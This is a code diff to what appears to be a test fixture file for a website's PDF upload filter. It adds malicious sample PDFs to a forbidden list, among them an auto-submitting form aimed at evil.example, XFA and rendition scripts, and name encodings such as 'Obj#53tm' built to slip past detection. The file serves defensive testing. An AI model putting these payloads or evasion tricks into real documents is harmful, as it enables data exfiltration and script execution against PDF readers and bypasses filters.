@@ -100,14 +100,14 @@ export async function listRedrawn(): Promise<[name: string, bytes: Bytes][]> {
   ]
 }
 
-type Pack = { filter?: string; packed?: Uint8Array }
+type Pack = { before?: string; filter?: string; packed?: Uint8Array }
 
 /** A PDF with objects in a pack, as programs write them since 2003. */
 export function createPackedPdf(
   objects: string,
-  { filter = '/FlateDecode', packed = zlibSync(toBytes(objects)) }: Pack = {},
+  { before = '/Type/ObjStm', filter = '/FlateDecode', packed = zlibSync(toBytes(objects)) }: Pack = {},
 ) {
-  const head = `%PDF-1.7\n1 0 obj<</Type/ObjStm/N 1/First 4/Filter${filter}/Length ${packed.length}>>stream\r\n`
+  const head = `%PDF-1.7\n1 0 obj<<${before}/Filter${filter}/N 1/First 4/Length ${packed.length}>>stream\r\n`
   return join(toBytes(head), packed, toBytes('\nendstream endobj\nstartxref\n9\n%%EOF\n'))
 }
 
@@ -122,7 +122,12 @@ export const FORBIDDEN_PDFS: readonly [name: string, bytes: Bytes][] = [
   ['a lock', createPdf({ inside: '/Encrypt 5 0 R' })],
   ['a script in a pack', createPackedPdf(SCRIPT)],
   ['a script under a name in numbers in a pack', createPackedPdf(SCRIPT.replace('/Java', '/J#61va'))],
-  ['a pack under a name in numbers', createPdf({ inside: '/Extra<</Type/Obj#53tm>>' })],
+  ['a form that is sent', createPdf({ inside: '/AA<</O<</S/SubmitForm/F(https://evil.example)>>>>' })],
+  ['a script of a form', createPdf({ inside: '/AcroForm<</XFA(<script>app.alert(1)</script>)>>' })],
+  ['a script of a rendition', createPdf({ inside: '/OpenAction<</S/Rendition/JS(app.alert(1))>>' })],
+  ['a script in a pack under a name in numbers', createPackedPdf(SCRIPT, { before: '/Type/Obj#53tm' })],
+  ['a script in a pack with a string before its filter', createPackedPdf(SCRIPT, { before: '/X(obj)/Type/ObjStm' })],
+  ['a script in a pack with a word before its filter', createPackedPdf(SCRIPT, { before: '/Type/ObjStm/X(stream)' })],
   ['a pack in two wrappings', createPackedPdf(SCRIPT, { filter: '[/ASCIIHexDecode/FlateDecode]' })],
   ['a pack that is cut off', createPackedPdf(SCRIPT, { packed: zlibSync(toBytes(SCRIPT)).subarray(0, 20) })],
   ['a pack without an end', createPackedPdf('', { packed: zlibSync(new Uint8Array(40_000_000)) })],
@@ -131,7 +136,6 @@ export const FORBIDDEN_PDFS: readonly [name: string, bytes: Bytes][] = [
 /** What a reader of PDFs might do something with: kept as it is, and never shown by this site. */
 export const ACTIVE_PDFS: readonly [name: string, bytes: Bytes][] = [
   ['objects in a pack', createPackedPdf('3 0 <</Type/Page>>')],
-  ['a form that is sent', createPdf({ inside: '/AA<</O<</S/SubmitForm/F(https://evil.example)>>>>' })],
   ['an address that it opens', createPdf({ inside: '/OpenAction<</S/URI/URI(javascript:alert(1))>>' })],
   ['a page behind it', createPdf({ behind: PAGE })],
   ['an archive behind it', createPdf({ behind: 'PK\x05\x06' })],
